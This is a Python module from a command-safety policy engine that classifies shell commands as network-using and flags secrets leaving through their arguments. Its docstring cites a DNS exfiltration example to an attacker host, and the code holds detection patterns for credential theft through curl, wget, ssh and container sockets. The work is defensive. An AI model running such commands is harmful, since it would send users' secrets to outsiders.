"""Which commands use the network (as their catalog entries say, `catalog/entry.py` `Net`), and secrets
leaving through their arguments.

Anything that touches the network is never Safe: the sandbox gives a command the network only when the
decision says it needs it and the user approved. A secret (credential file, /proc/*/environ, a secret
variable, the environment) in any argument of a network program is Dangerous, however it gets there:
`@file`, `-F f=<file`, `--data-binary`, process substitution, or a DNS name (`dig $(cat key).evil.com`).
"""

from __future__ import annotations

import re

from framework_core.policy.context import Ctx, Word, confirm, danger
from framework_core.policy.levels import Verdict
from framework_core.policy.paths import holds_secrets, secret_reason, show, write_reason
from framework_core.policy.targets import resolve

SECRET_VAR = re.compile(r"\$\{?!?([A-Za-z_]*(?:API_?KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|ACCESS_KEY|"
                        r"PRIVATE_KEY|AUTH)[A-Za-z0-9_]*)", re.I)
SOCKETS = re.compile(r"(docker|containerd|podman|crio)\.sock")
IDENTITY_OPTS = {"-i", "--identity", "-F", "-o", "--rsh", "-e"}
OUTPUT_OPTS = {"curl": {"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar", "--trace", "--trace-ascii",
                        "--libcurl", "--stderr", "--output-dir"},
               "wget": {"-O", "--output-document", "-o", "--output-file", "-a", "--append-output", "-P",
                        "--directory-prefix", "--save-cookies"}}
LOCAL_EXEC_OPTS = {"ProxyCommand", "LocalCommand", "KnownHostsCommand", "PermitLocalCommand", "Match"}


def _subcommand(argv: list[str]) -> str:
    return next((a for a in argv[1:] if not a.startswith("-")), "")


PIP_SOURCES = {"-f", "--find-links", "-i", "--index-url", "--extra-index-url"}
LOCAL_PACKAGE = re.compile(r"^(\.{1,2}(/|$)|/|~/|file:)|\.(tgz|tar\.gz|tar)$")


def _offline(name: str, argv: list[str], flags: frozenset[str]) -> bool:
    """Known to stay off the network: the tool's offline switch (`flags`, from its catalog entry; pip's
    `--no-index` with no URL to find packages at), or an `npm install` whose every package is a folder or
    archive named by path (`npm install ../localpkg`, `npm i ./x.tgz`, `file:` specs)."""
    if not any(a in flags or a.split("=", 1)[0] in flags for a in argv[1:]):
        return name == "npm" and _npm_local_install(argv)
    if name == "pip":
        for i, a in enumerate(argv[1:], start=1):
            opt, eq, val = a.partition("=")
            value = val if eq else argv[i + 1] if opt in PIP_SOURCES and i + 1 < len(argv) else ""
            if opt in PIP_SOURCES and "://" in value and not value.startswith("file://"):
                return False
    return True


def _npm_local_install(argv: list[str]) -> bool:
    sub = _subcommand(argv)
    if sub not in ("install", "i", "add"):
        return False
    rest = argv[argv.index(sub) + 1:]
    packages = [a for a in rest if not a.startswith("-")]
    options_with_values = [a for a in rest if a.startswith("-") and a not in NPM_LOCAL_OPTIONS]
    return bool(packages) and not options_with_values and all(LOCAL_PACKAGE.search(p) and "://" not in p
                                                               for p in packages)


#: npm install's options that take no value (so what follows is a package) and name no registry.
NPM_LOCAL_OPTIONS = {"--save", "-S", "--save-dev", "-D", "--save-optional", "-O", "--save-exact", "-E",
                     "--no-save", "--no-audit", "--no-fund", "--ignore-scripts", "--install-links",
                     "--no-package-lock", "--prefer-offline", "--offline", "--silent", "-s", "--quiet", "-q",
                     "--no-progress", "--foreground-scripts"}


def uses_network(argv: list[str]) -> bool:
    """Does this command reach the network, by its program's catalog entry (`catalog/entry.py`, `Net`)?"""
    from framework_core.policy.catalog import networks

    name = re.sub(r"^pip[0-9.]+$", "pip", argv[0])
    how = networks().get(name)
    if name == "rsync":
        return any(":" in a and not a.startswith(("-", "/", ".")) for a in argv[1:])
    if how is None:
        return False
    if not how.subcommands:
        return not how.offline or not _offline(name, argv, how.offline)
    sub = _subcommand(argv)
    if sub not in how.subcommands:
        return False
    local = how.local.get(sub)
    if local is not None:
        rest = argv[argv.index(sub) + 1:]
        nxt = next((a for a in rest if not a.startswith("-")), "")
        return not any((w.split() or [""])[0] == nxt and all(o in rest for o in w.split()[1:]) for w in local)
    return not _offline(name, argv, how.offline)


def _pieces(text: str) -> list[str]:
    """A word and the file names it may carry: `f=@~/.ssh/id_rsa`, `@.env`, `name=<file`, `--x=file`."""
    out = [text]
    for sep in ("=", "@", "<"):
        out += [p for t in list(out) for p in t.split(sep)[1:] if p]
    return out


def word_secret(w: Word, ctx: Ctx, recursive: bool = False) -> str:
    """What secret this word carries into the command, if any (`recursive`: the program reads whole trees)."""
    if w.flow.secret:
        return w.flow.secret
    m = SECRET_VAR.search(w.text)
    if m:
        return f"the secret variable ${m.group(1)}"
    for name in w.names:
        if name in ctx.tainted:
            return f"${name}, which holds {ctx.tainted[name]}"
    for piece in _pieces(w.text):
        word = Word(piece, w.dynamic, w.quoted, piece.startswith("~"), w.glob)
        for t in resolve(word, ctx):
            if t.path in ctx.tainted:
                return f"{show(t.path)}, which holds {ctx.tainted[t.path]}"
            why = secret_reason(t.path, t.glob) if t.path and not t.unknown else None
            if why:
                return why
            if recursive and t.path and not t.unknown and holds_secrets(t.path):
                return f"everything under {show(t.path)}, credentials included"
    return ""


def exfiltration(argv: list[str], words: list[Word], ctx: Ctx) -> Verdict | None:
    """Dangerous when a secret rides in any argument of a network command."""
    from framework_core.policy.catalog import has_trait

    recursive = has_trait(argv[0], "reads-trees")
    for i, w in enumerate(words[1:], start=1):
        if argv[0] in ("ssh", "scp", "sftp", "rsync") and (argv[i - 1] in IDENTITY_OPTS or
                                                            w.text.startswith(("-i", "IdentityFile"))):
            continue
        secret = word_secret(w, ctx, recursive)
        if secret:
            return danger(argv, f"sends {secret} over the network", network=True)
        if SOCKETS.search(w.text):
            return danger(argv, "talks to the container daemon's socket, which controls the host as root",
                          network=True)
    return None


def _output_value(name: str, argv: list[str], i: int) -> str | None:
    """The file an output option at argv[i] writes (`-o f`, `-sSo f`, `--output=f`, `-qO f`), or None."""
    a = argv[i]
    nxt = argv[i + 1] if i + 1 < len(argv) else ""
    opt, eq, val = a.partition("=")
    if opt in OUTPUT_OPTS.get(name, set()) and opt.startswith("--"):
        return val if eq else nxt
    letters, takes_value = {"curl": ("oDc", "AbcCdDeEFHKmoPQrTuUwxXyYzt"),
                            "wget": ("OoaP", "OoaPeitTwQlADIXRBUY")}.get(name, ("", ""))
    if a.startswith("-") and not a.startswith("--") and letters:
        for k, c in enumerate(a[1:], start=1):
            if c in takes_value:
                return (a[k + 1:] or nxt) if c in letters else None
    return None


def network_verdict(argv: list[str], words: list[Word], ctx: Ctx) -> Verdict:
    """For a command that uses the network: exfiltration, local writes and local commands it implies."""
    leak = exfiltration(argv, words, ctx)
    if leak:
        return leak
    name = argv[0]
    for i, a in enumerate(argv[1:], start=1):
        value = _output_value(name, argv, i)
        if value is not None:
            for t in resolve(Word(value, tilde=value.startswith("~")), ctx):
                bad, why = write_reason(t.path, t.glob)
                if bad:
                    return danger(argv, why + " with what the network returns", network=True)
                ctx.downloaded.add(t.path)
        if name == "ssh":
            key = a[2:] if a.startswith("-o") and len(a) > 2 else a if argv[i - 1] == "-o" else ""
            if re.split(r"[=\s]", key.strip(), maxsplit=1)[0] in LOCAL_EXEC_OPTS:
                return confirm(argv, f"ssh option {key.split('=')[0]} runs a local command", network=True)
        if "ext::" in a:
            return danger(argv, "an ext:: URL makes git run a local command", network=True)
    if name in ("curl", "wget") and ("-K" in argv or "--config" in argv or "-e" in argv or "--execute" in argv):
        return confirm(argv, f"{name} reads options from a file or command line that can write files", network=True)
    return confirm(argv, "uses the network", network=True)
